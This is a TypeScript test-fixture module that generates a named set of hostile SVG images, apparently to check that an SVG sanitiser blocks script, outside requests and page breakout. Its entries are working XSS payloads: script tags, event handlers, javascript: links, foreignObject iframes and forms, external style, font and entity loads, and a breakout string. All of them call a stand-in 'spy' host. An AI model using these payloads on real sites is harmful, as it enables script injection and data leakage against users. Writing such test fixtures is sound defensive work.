/**
 * SVG pictures that try to run script, to ask `spy` for something, or to change the page around them. Those that only
 * wait for `onload` prove nothing: in an `<svg>` set by `innerHTML` it does not fire either.
 */
export function createAttacks(spy: string): Readonly<Record<string, string>> {
  const run = `fetch('${spy}/script');top.attacked=1`
  const svg = (body: string, attributes = '') =>
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64" ${attributes}>` +
    `<rect width="64" height="64" fill="#00c000"/>${body}</svg>`
  return {
    script: svg(`<script>${run}</script>`),
    'script-elsewhere': svg(`<script href="${spy}/script.js"/>`),
    onload: svg('', `onload="${run}"`),
    onerror: svg(`<image href="x:" onerror="${run}"/>`),
    'html-onerror': svg(
      `<foreignObject width="64" height="64"><img xmlns="http://www.w3.org/1999/xhtml" src="x:" onerror="${run}"/></foreignObject>`,
    ),
    'html-frame': svg(
      `<foreignObject width="64" height="64"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${spy}/frame"/></foreignObject>`,
    ),
    'html-form': svg(
      `<foreignObject width="64" height="64"><form xmlns="http://www.w3.org/1999/xhtml" action="${spy}/form"><input autofocus="" onfocus="${run}"/></form></foreignObject>`,
    ),
    image: svg(`<image href="${spy}/image.png" width="9" height="9"/>`),
    'xlink-image': svg(`<image xlink:href="${spy}/xlink.png" width="9" height="9"/>`),
    use: svg(`<use href="${spy}/use.svg#a"/>`),
    'use-data': svg(
      `<use href="data:image/svg+xml,${encodeURIComponent(`<svg id="a" xmlns="http://www.w3.org/2000/svg"><image href="x:" onerror="${run}"/></svg>`)}#a"/>`,
    ),
    animate: svg(
      `<image href="x:"><animate attributeName="href" values="${spy}/animate.png" dur="1s"/></image>`,
    ),
    'animate-onbegin': svg(`<animate attributeName="x" onbegin="${run}" dur="1s"/>`),
    set: svg(`<a><set attributeName="href" to="javascript:${run}"/><text y="9">x</text></a>`),
    link: svg(`<a href="javascript:${run}"><rect width="64" height="64"/></a>`),
    style: svg(`<style>@import "${spy}/style.css"; rect { fill: url(${spy}/fill.svg#a) }</style>`),
    'style-attribute': svg(`<rect width="9" height="9" style="filter: url(${spy}/filter.svg#a)"/>`),
    font: svg(
      `<style>@font-face { font-family: spy; src: url(${spy}/font.woff) }</style><text y="9" font-family="spy">x</text>`,
    ),
    'stylesheet-instruction': `<?xml-stylesheet href="${spy}/instruction.css"?>${svg('')}`,
    entity: `<!DOCTYPE svg [<!ENTITY spy SYSTEM "${spy}/entity">]>${svg('<text>&spy;</text>')}`,
    'breaks-out': svg(`"><img src=x onerror="${run}">'><script>${run}</script>`),
  }
}
